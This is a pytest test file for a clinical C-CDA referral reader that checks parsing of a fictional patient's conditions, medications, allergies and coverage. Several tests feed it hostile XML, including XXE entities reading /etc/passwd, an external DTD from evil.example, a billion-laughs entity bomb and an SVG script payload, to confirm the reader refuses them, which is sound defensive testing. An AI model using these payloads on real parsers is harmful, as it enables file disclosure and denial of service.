"""C-CDA documents: read into the same packet as a bundle, and refused in one sentence where they are anything else."""

import json
import time
from contextlib import suppress
from datetime import date
from io import StringIO

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from hearth.inquiry.bundle import Unreadable, read
from hearth.inquiry.models import Referral
from hearth.inquiry.risks import disclosed
from hearth.inquiry.testing import make_referral
from hearth.inquiry.tests.documents import PATIENT, SECTIONS, document

TODAY = date(2026, 3, 2)
NOT_CDA = "but no C-CDA document"
BOMB = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)
)


def in_utf_16(data):
    return data.decode().replace("UTF-8", "UTF-16").encode("utf-16")


def packet(data=None):
    return read(data or document(), today=TODAY)


def refused(data):
    with pytest.raises(Unreadable) as found:
        read(data, today=TODAY)
    return str(found.value)


def test_the_person_and_the_sender_are_read():
    found = packet()
    person = found.person
    assert (person.name, person.birth_date, person.sex) == ("Luz Marina Amaya", date(1993, 2, 11), "female")
    assert (person.phones[0].number, person.phones[0].use) == ("+1(303)555-0155", "mobile")
    assert person.emails == ("luz@mail.example",)
    assert person.address
    assert (person.address.lines, person.address.state) == (("77 Alder Court",), "CO")
    assert [(one.code, one.name, one.preferred) for one in person.languages] == [("es-US", "Spanish", True)]
    assert [(one.system, one.value) for one in person.identifiers] == [("urn:oid:2.16.840.1.113883.19.5", "998991")]
    assert found.sender
    assert (found.sender.name, found.sender.organisation) == ("Ida Voss", "St. Anne Hospital")
    assert found.problems == ()


def test_why_they_were_sent_is_told_in_the_senders_words():
    found = packet().referral
    assert found
    assert (found.service, found.on) == ("Referral Note", "2026-03-01")
    assert found.notes == ("Asks for an evening program after detox.",)


def test_problems_are_told_active_behavioural_ones_first_and_denied_ones_never():
    alcohol, asthma = packet().conditions
    assert (alcohol.text, alcohol.code, alcohol.behavioural) == ("Alcohol dependence, severe", "F10.20", True)
    assert (alcohol.active, alcohol.onset) == (True, "2019-05-12")
    assert (asthma.text, asthma.active, asthma.onset, asthma.ended) == ("Asthma", False, "2012-01", "2013")


def test_medications_allergies_and_payers_are_told():
    found = packet()
    naltrexone, diazepam = found.medications
    assert (naltrexone.text, naltrexone.active) == ("Naltrexone 50 MG Oral Tablet", True)
    assert naltrexone.dosage == "50 mg each morning"
    assert (diazepam.text, diazepam.active, diazepam.dosage) == ("Diazepam", False, "10 mg")
    (allergy,) = found.allergies
    assert (allergy.text, allergy.criticality, allergy.reactions) == ("Penicillin G", "high", ("Hives",))
    (payer,) = found.coverage
    assert (payer.payer, payer.member_id, payer.group) == ("Front Range Health Plan", "M-1234", "GRP-7")


DISCHARGE = """
<component><section><templateId root="2.16.840.1.113883.10.20.22.2.11.1" extension="2015-08-01"/>
  <code code="10183-2" codeSystem="2.16.840.1.113883.6.1"><translation code="75311-1"/></code><text/>
  <entry><act classCode="ACT" moodCode="EVN">
    <templateId root="2.16.840.1.113883.10.20.22.4.35" extension="2016-03-01"/>
    <code code="10183-2" codeSystem="2.16.840.1.113883.6.1"/><statusCode code="completed"/>
    <entryRelationship typeCode="SUBJ">{sertraline}</entryRelationship></act></entry>
  <entry><act classCode="ACT" moodCode="EVN"><entryRelationship typeCode="SUBJ">{chlordiazepoxide}</entryRelationship>
    <entryRelationship typeCode="SUBJ">{thiamine}</entryRelationship></act></entry></section></component>
<component><section><templateId root="2.16.840.1.113883.10.20.22.2.24" extension="2015-08-01"/>
  <code code="11535-2" codeSystem="2.16.840.1.113883.6.1"><translation code="78375-3"/></code><text/>
  <entry><act classCode="ACT" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.33"/>
    <code code="11535-2" codeSystem="2.16.840.1.113883.6.1"/><statusCode code="completed"/>
    <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN">
      <templateId root="2.16.840.1.113883.10.20.22.4.4"/><value xsi:type="CD" code="F33.2"
        codeSystem="2.16.840.1.113883.6.90" displayName="Major depressive disorder, recurrent, severe"/>
    </observation></entryRelationship></act></entry></section></component>
<component><section><code code="48765-2" codeSystem="2.16.840.1.113883.6.1"/><text/>
  <entry><observation classCode="OBS" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.7"/>
    <participant typeCode="CSM"><participantRole><playingEntity><code code="2670"
      codeSystem="2.16.840.1.113883.6.88" displayName="Codeine"/></playingEntity></participantRole></participant>
  </observation></entry></section></component>"""


def given_as(name, status="active", *, until=""):
    high = f'<high value="{until}"/>' if until else ""
    return f"""<substanceAdministration classCode="SBADM" moodCode="EVN">
      <templateId root="2.16.840.1.113883.10.20.22.4.16" extension="2014-06-09"/><statusCode code="{status}"/>
      <effectiveTime xsi:type="IVL_TS"><low value="20260220"/>{high}</effectiveTime><consumable><manufacturedProduct>
      <manufacturedMaterial><code nullFlavor="UNK"/><name>{name}</name></manufacturedMaterial></manufacturedProduct>
      </consumable></substanceAdministration>"""


def test_medications_and_diagnoses_at_discharge_are_read_within_their_acts():
    found = packet(
        document(
            body=DISCHARGE.format(
                sertraline=given_as("Sertraline"),
                chlordiazepoxide=given_as("Chlordiazepoxide", until="20260224"),
                thiamine=given_as("Thiamine", "completed", until="20260601"),
            )
        )
    )
    taken = {one.text: one.active for one in found.medications}
    assert taken == {"Sertraline": True, "Thiamine": True, "Chlordiazepoxide": False}
    assert [(one.text, one.active) for one in found.conditions] == [
        ("Major depressive disorder, recurrent, severe", True)
    ]
    assert [(one.text, one.active) for one in found.allergies] == [("Codeine", True)]


def test_how_much_a_problem_matters_and_how_healthy_somebody_is_are_no_problems():
    beside = """<entry><observation classCode="OBS" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.5"/>
      <value xsi:type="CD" code="81323004" codeSystem="2.16.840.1.113883.6.96" displayName="Alive and well"/>
      </observation></entry>"""
    matters = """<entryRelationship typeCode="REFR"><observation classCode="OBS" moodCode="EVN"><value xsi:type="CD"
      code="394849002" codeSystem="2.16.840.1.113883.6.96" displayName="High priority"/></observation>
      </entryRelationship></act></entry></section>"""
    first, rest = SECTIONS.split("Alcohol dependence, severe", 1)
    rest = rest.replace("</act></entry></section>", f"{matters}".replace("</section>", f"{beside}</section>"), 1)
    told = [one.text for one in packet(document(body=f"{first}Alcohol dependence, severe{rest}")).conditions]
    assert told == ["Alcohol dependence, severe", "Asthma"]


def test_thoughts_of_suicide_that_were_measured_are_disclosed():
    assert [one.shown for one in disclosed(packet().measures, on=TODAY)] == ["2"]


def test_a_document_with_a_person_and_nothing_else_is_taken():
    found = packet(document(body=""))
    assert found.person.name == "Luz Marina Amaya"
    assert (found.conditions, found.medications, found.coverage) == ((), (), ())


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (document(before='<!DOCTYPE x SYSTEM "file:///etc/passwd">'), "DOCTYPE"),
        (document(before='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', body="&e;"), "DOCTYPE"),
        (document(before='<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>'), "DOCTYPE"),
        (document(before=BOMB + "]>", body="&j;"), "DOCTYPE"),
        (in_utf_16(document(before='<!DOCTYPE x SYSTEM "file:///etc/passwd">')), "DOCTYPE"),
        (document(body="&e;"), "damaged or cut short"),
        (document()[:-900], "damaged or cut short"),
        (document(body="<section>" * 200 + "</section>" * 200), "nested too deeply"),
        (document(body="<section/>" * 300_001), "nested too deeply"),
        (document(people=""), "There is no patient in the file."),
        (document(people=PATIENT * 2), "There are 2 patients in the file"),
        (document(people=PATIENT.replace("19930211", "20930211")), "is in the future"),
        (b"<html><body>Dear colleague</body></html>", NOT_CDA),
        (b"<!doctype html><p>Dear colleague", NOT_CDA),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", NOT_CDA),
        (b'<Bundle xmlns="http://hl7.org/fhir"/>', NOT_CDA),
        (b"<ClinicalDocument/>", NOT_CDA),
        (b"<", NOT_CDA),
    ],
)
def test_anything_else_is_refused_in_one_sentence(data, sentence):
    assert sentence in refused(data)


def test_an_external_document_type_is_never_asked_for(tmp_path, monkeypatch):
    secret = tmp_path / "secret.txt"
    secret.write_text("what nobody may read")
    said = refused(document(before=f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>', people="&e;"))
    assert "nobody may read" not in said


def test_a_document_made_to_be_slow_is_judged_in_time():
    nested = "".join(f'<list ID="n{depth}">' for depth in range(90)) + "word " * 1_000_000 + "</list>" * 90
    began = time.perf_counter()
    packet(document(body=f"<component><section><text>{nested}</text></section></component>"))
    assert time.perf_counter() - began < 5


def test_a_document_in_another_encoding_is_read_alike():
    assert packet(in_utf_16(document())) == packet()


@given(st.integers(0, len(document())), st.binary(max_size=40))
def test_no_damage_makes_the_reader_stumble(at, noise):
    whole = document()
    with suppress(Unreadable):
        read(whole[:at] + noise + whole[at + 40 :], today=TODAY)


def test_a_document_lands_in_the_inbox_by_upload_and_by_command(ines, as_user, now, tmp_path):
    row = make_referral(document(), at=now, by=ines)
    said = as_user(ines).get(f"/referrals/{row.pk}/").text
    for told in ("Luz Marina Amaya", "St. Anne Hospital", "Alcohol dependence, severe", "Asks for an evening program"):
        assert told in said
    (tmp_path / "again.xml").write_bytes(document(people=PATIENT.replace("19930211", "1993")))
    out = StringIO()
    call_command("referral", "import", str(tmp_path / "again.xml"), stdout=out)
    (told,) = json.loads(out.getvalue())
    assert (told["status"], told["patient"]) == ("duplicate", "Luz Marina Amaya")
    assert any("very like this person" in one for one in told["problems"])
    assert Referral.objects.count() == 2


def test_every_section_may_be_missing():
    for left_out in SECTIONS.split("\n<component>")[1:]:
        assert packet(document(body=SECTIONS.replace(f"\n<component>{left_out}", ""))).person.name
